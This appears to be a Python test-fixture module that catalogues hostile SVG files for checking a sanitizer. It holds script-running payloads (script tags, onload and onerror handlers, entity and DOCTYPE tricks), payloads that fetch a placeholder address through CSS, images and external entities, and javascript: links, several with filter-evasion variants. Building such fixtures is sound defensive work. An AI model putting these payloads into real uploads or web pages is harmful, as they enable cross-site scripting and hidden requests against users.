"""SVG files that try to act or to reach out; `{hit}` is an address that must not be asked for."""

from __future__ import annotations

import base64

SVG, XLINK = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"
HEAD = f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" width="64" height="32">'
CALL = "fetch('{hit}')"


def svg(inside: str) -> str:
    return f"{HEAD}{inside}</svg>"


def inner(content: str) -> str:
    return base64.b64encode(content.encode()).decode()


SCRIPTS = {
    "a script": svg(f"<script>{CALL}</script>"),
    "a script in a CDATA section": svg(f"<script><![CDATA[{CALL}]]></script>"),
    "a script with a source": svg('<script href="{hit}"/><script xlink:href="{hit}"/>'),
    "a script in a prefix": f'<s:svg xmlns:s="{SVG}" width="9" height="9"><s:script>{CALL}</s:script></s:svg>',
    "a script of HTML": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{CALL}</h:script>'),
    "a script in a title": svg(f'<title><script xmlns="http://www.w3.org/1999/xhtml">{CALL}</script></title>'),
    "a script in metadata": svg(f'<metadata><script xmlns="{SVG}">{CALL}</script></metadata>'),
    "a script in a style": svg(f"<style><script>{CALL}</script></style>"),
    "onload": f'<svg xmlns="{SVG}" width="9" height="9" onload="{CALL}"/>',
    "onload in capitals": svg(f'<g OnLoad="{CALL}" ONLOAD="{CALL}"/>'),
    "onerror of a picture": svg(f'<image href="x:" width="9" height="9" onerror="{CALL}"/>'),
    "onbegin": svg(f'<animate attributeName="x" dur="1s" onbegin="{CALL}"/>'),
    "an entity in a handler": f'<!DOCTYPE svg [<!ENTITY e "{CALL}">]>' + svg('<g onload="&e;"/><script>&e;</script>'),
    "a default of the DOCTYPE": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{CALL}">]>' + svg(""),
    "foreign content": svg(
        f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="x:" onerror="{CALL}"/><iframe srcdoc="&lt;script&gt;{CALL}&lt;/script&gt;"/></body></foreignObject>'
    ),
    "foreign content in a switch": svg(
        '<switch><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{hit}"/>'
        "</foreignObject></switch>"
    ),
}
"""Those that a browser runs as soon as they are shown as a page."""

FETCHES = {
    "a picture": svg('<image href="{hit}" width="9" height="9"/>'),
    "a picture by xlink": svg('<image xlink:href="{hit}" width="9" height="9"/>'),
    "a style sheet": '<?xml-stylesheet type="text/css" href="{hit}"?>' + svg(""),
    "an import": svg("<style>@import '{hit}';</style>"),
    "an import by url": svg("<style>@import url({hit});</style>"),
    "an escaped import": svg("<style>@\\69mport '{hit}';</style>"),
    "an import in two pieces": svg("<style>@im<![CDATA[port '{hit}';]]></style>"),
    "a font": svg("<style>@font-face {font-family: x; src: url({hit})} text {font-family: x}</style><text>x</text>"),
    "a background": svg("<style>svg {background: url('{hit}')}</style>"),
    "an escaped background": svg("<style>svg {background: u\\72l({hit})}</style>"),
    "a background in a group": svg("<style>@media all {svg {background: url({hit})}}</style>"),
    "a set of pictures": svg('<style>svg {background: image-set("{hit}" 1x)}</style>'),
    "a picture by variable": svg("<style>svg {--u: url({hit}); background: var(--u)}</style>"),
    "a list": svg("<style>svg {display: list-item; list-style-image: url({hit})}</style>"),
    "a style": f'<svg xmlns="{SVG}" width="9" height="9" style="background:url({{hit}});cursor:url({{hit}}),auto"/>',
    "an outside use": svg('<use href="{hit}#a"/>'),
    "an outside filter": svg('<rect width="9" height="9" filter="url({hit}#a)"/>'),
    "an outside mask": svg('<rect width="9" height="9" style="mask:url(\'{hit}#a\')"/>'),
    "an animated picture": svg('<image width="9" height="9"><set attributeName="href" to="{hit}"/></image>'),
    "a picture of a filter": svg(
        '<filter id="f"><feImage href="{hit}"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "a base": svg('<g xml:base="{hit}"><image href="x" width="9" height="9"/></g>'),
    "an outside entity": '<!DOCTYPE svg [<!ENTITY e SYSTEM "{hit}">]>' + svg("<text>&e;</text>"),
}
"""Those that a browser or a renderer may load something for."""

LINKS = {
    "a link": svg('<a href="{hit}"><text>x</text></a>'),
    "a script link": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
    "a spelt script link": svg('<a href=" java&#10;script&#58;alert(1)"><text>x</text></a>'),
    "a link of a page": svg('<a href="data:text/html,x"><text>x</text></a>'),
    "an animated link": svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
    "an animated xlink": svg('<a><set attributeName="xlink:href" to="javascript:alert(1)"/><text>x</text></a>'),
    "an animated handler": svg('<g><set attributeName="onload" to="alert(1)"/></g>'),
    "an animated style": svg('<g><animate attributeName="style" values="fill:url({hit})"/></g>'),
    "an animated fill": svg('<g><animate attributeName="fill" values="red;url({hit}#a)" dur="1s"/></g>'),
    "an svg in the svg": svg('<use href="data:image/svg+xml;base64,' + inner(svg("<script>1</script>")) + '#x"/>'),
    "an svg in a picture": svg('<image href="data:image/svg+xml;base64,' + inner(svg("<script>1</script>")) + '"/>'),
    "a page in a picture": svg('<image href="data:text/html;base64,' + inner("<script>1</script>") + '"/>'),
    "a binding": svg("<style>g {-moz-binding: url(#x); behavior: url(#x)}</style>"),
    "an expression": svg("<style>g {width: expression(alert(1))}</style>"),
    "a handler element": svg('<handler type="text/javascript">alert(1)</handler>'),
    "an inclusion": svg('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{hit}"/>'),
    "a namespace": svg('<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="#x"/>'),
}

ATTACKS = SCRIPTS | FETCHES | LINKS


def attack(name: str, hit: str) -> bytes:
    """The attack that asks for the address `hit`."""
    return ATTACKS[name].replace("{hit}", hit).encode()
